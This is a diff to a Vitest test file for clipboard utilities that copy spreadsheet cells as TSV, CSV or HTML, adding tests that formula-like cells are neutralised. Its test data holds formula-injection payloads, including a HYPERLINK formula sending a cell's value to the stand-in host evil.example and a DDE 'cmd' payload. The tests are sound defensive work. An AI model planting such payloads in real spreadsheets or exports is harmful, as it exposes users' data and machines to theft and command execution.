@@ -1,6 +1,6 @@
 // Text copied from Excel or WPS arrives tab-separated; cells with line breaks come quoted.
 import { describe, expect, it } from 'vitest';
-import { neutralizeFormula, parseTsv, toCsv, toHtmlTable, toTsv } from '../../shared/format/tsv';
+import { neutralizeFormula, parseClipboard, parseTsv, toCsv, toHtmlTable, toTsv } from '../../shared/format/tsv';
 
 describe('clipboard text from a spreadsheet', () => {
   it('splits rows and cells and ignores the last line break', () => {
@@ -70,5 +70,29 @@ describe('copying cells for Excel, WPS or a chat message', () => {
     expect(toHtmlTable([['日期'], ['2026-03-05']], { header: true })).toContain(
       '<tr><th>日期</th></tr><tr><td>2026-03-05</td></tr>',
     );
+  });
+  // A copied cell pasted into Excel or WPS is read as typed: one starting with = + - @ (or tab, CR) would run.
+  const attacks = ['=HYPERLINK("http://evil.example/?d="&A2,"详情")', "+cmd|' /C calc'!A0", '-2+3+cmd|', '@SUM(1+1)'];
+  it('formula-like cells are neutralised in the text and in the HTML table; plain numbers stay numbers', () => {
+    const text = toTsv([attacks, ['-5', '+3.5', '2026-03-05', '张三 = 李四']]);
+    expect(text.split('\r\n')[0]).toBe(
+      `"'=HYPERLINK(""http://evil.example/?d=""&A2,""详情"")"\t'+cmd|' /C calc'!A0\t'-2+3+cmd|\t'@SUM(1+1)`,
+    );
+    expect(text.split('\r\n')[1]).toBe('-5\t+3.5\t2026-03-05\t张三 = 李四');
+    const html = toHtmlTable([[...attacks, '-5']]);
+    for (const a of attacks) expect(html).not.toContain(`<td>${a.replace(/&/g, '&amp;').replace(/"/g, '&quot;')}`);
+    expect(html).toContain(`<td style="mso-number-format:'\\@'">'=HYPERLINK(&quot;http://evil.example/`);
+    expect(html).toContain(`<td style="mso-number-format:'\\@'">'@SUM(1+1)</td>`);
+    expect(html).toContain('<td>-5</td>');
+  });
+  it("the grids' own paste of their own copy gives back every cell as written", () => {
+    const cells = [
+      // (A lone CR inside a cell comes back as a line break: parseTsv reads line ends as Excel writes them.)
+      [...attacks, '\t=1+1'],
+      ["'=已有撇号", "''+两个撇号", "'普通撇号", "'-5", '-5', '+3.5', '＝全角等号', ''],
+    ];
+    expect(parseClipboard(toTsv(cells))).toEqual(cells);
+    // What Excel or WPS put on the clipboard is pasted as it is (they write no apostrophe before a formula).
+    expect(parseClipboard("'普通撇号\t=SUM(A1)\r\n")).toEqual([["'普通撇号", '=SUM(A1)']]);
   });
 });
